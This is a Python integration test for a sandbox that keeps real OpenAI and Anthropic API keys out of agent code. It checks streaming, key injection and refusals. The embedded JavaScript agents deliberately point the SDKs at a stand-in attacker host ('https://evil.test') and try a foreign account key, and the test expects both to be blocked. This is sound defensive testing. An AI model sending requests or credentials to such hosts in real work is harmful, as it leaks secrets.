"""The npm SDKs of openai and anthropic in a sandbox: they work with keys that they never hold.

The packages come from `scripts/node_sdks.sh`, which `make test` runs: hash-pinned by their lock file.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from runtime.canary.net.session import CanaryNet
from tests.integration.conftest import ROOT, Lab
from tests.integration.test_clients import KEYS, PROVIDERS

pytestmark = pytest.mark.docker

MODULES = ROOT / "build/node-sdks/node_modules"

OPENAI = """
import OpenAI from 'openai'
const client = new OpenAI()
const times = []
let text = ''
const messages = [{role: 'user', content: 'One. Two. Three.'}]
for await (const chunk of await client.chat.completions.create({model: 'gpt-5.2', messages, stream: true})) {
  times.push(Date.now()); text += chunk.choices[0]?.delta?.content ?? ''
}
const plain = (await client.responses.create({model: 'gpt-5.2', input: 'One. Two.'})).output_text
const refused = await new OpenAI({baseURL: 'https://evil.test/v1', maxRetries: 0}).models.list().catch(e => e)
const theft = await new OpenAI({apiKey: 'sk-another-account', maxRetries: 0}).models.list().catch(e => e)
console.log(JSON.stringify({text, plain, spread: times.at(-1) - times[0], held: process.env.OPENAI_API_KEY,
  refused: [refused.status, refused.message], theft: [theft.status, theft.message]}))
"""
ANTHROPIC = """
import Anthropic from '@anthropic-ai/sdk'
const client = new Anthropic()
const times = []
let text = ''
const asked = {model: 'claude-opus-4-5-20251101', max_tokens: 100, messages: [{role: 'user', content: 'One. Two. Three.'}]}
for await (const event of client.messages.stream(asked)) {
  if (event.type === 'content_block_delta') { times.push(Date.now()); text += event.delta.text }
}
const plain = (await client.messages.create(asked)).content[0].text
const refused = await new Anthropic({baseURL: 'https://evil.test', maxRetries: 0}).messages.create(asked).catch(e => e)
const theft = await new Anthropic({apiKey: 'sk-ant-api03-another', maxRetries: 0}).messages.create(asked).catch(e => e)
console.log(JSON.stringify({text, plain, spread: times.at(-1) - times[0], held: process.env.ANTHROPIC_API_KEY,
  refused: [refused.status, refused.message], theft: [theft.status, theft.message]}))
"""
SDKS = {
    "openai": (OPENAI, "api.openai.com", "OPENAI_API_KEY"),
    "@anthropic-ai/sdk": (ANTHROPIC, "api.anthropic.com", "ANTHROPIC_API_KEY"),
}


def agent_with_modules(lab: Lab, code: str) -> Path:
    """An agent that brings its node_modules along."""
    if not MODULES.is_dir():
        pytest.fail(f"{MODULES.relative_to(ROOT)} is not there: make node-sdks")
    more = {"entrypoint": "main.mjs", "bundle": {"include": ["node_modules"]}, **PROVIDERS}
    folder = lab.agent("node", code, entry="main.mjs", **more)
    shutil.copytree(MODULES, folder / "node_modules", ignore=shutil.ignore_patterns("*.map", "*.ts", "src"))
    return folder


@pytest.mark.parametrize("sdk", SDKS)
def test_npm_sdk_works_with_a_key_it_never_holds(lab: Lab, canary_net: CanaryNet, sdk: str):
    """Streaming and not; the vendor sees the true key, the agent a placeholder; refusals say why."""
    code, host, name = SDKS[sdk]
    canary_net.control.set_token_delay(0.3)

    done = lab.orch("run", str(agent_with_modules(lab, code)), "--policy", "lab", env=KEYS)

    assert done.code == 0, done.out + done.err
    result = done.json["result"]
    assert "One" in result["text"]
    assert result["plain"]
    assert result["spread"] >= 50, "the first token came with the last: nothing was streamed"
    assert result["held"] != KEYS[name]
    assert result["refused"][0] == result["theft"][0] == 403
    assert "not_allowed_host" in json.dumps(result["refused"])
    assert "foreign_credential" in json.dumps(result["theft"])
    record = canary_net.record()
    sent = [list(request.credentials.values()) for request in record.requests_to(host)]
    assert [[value.removeprefix("Bearer ") for value in values] for values in sent] == [[KEYS[name]]] * 2
    assert KEYS[name] not in done.out + done.err
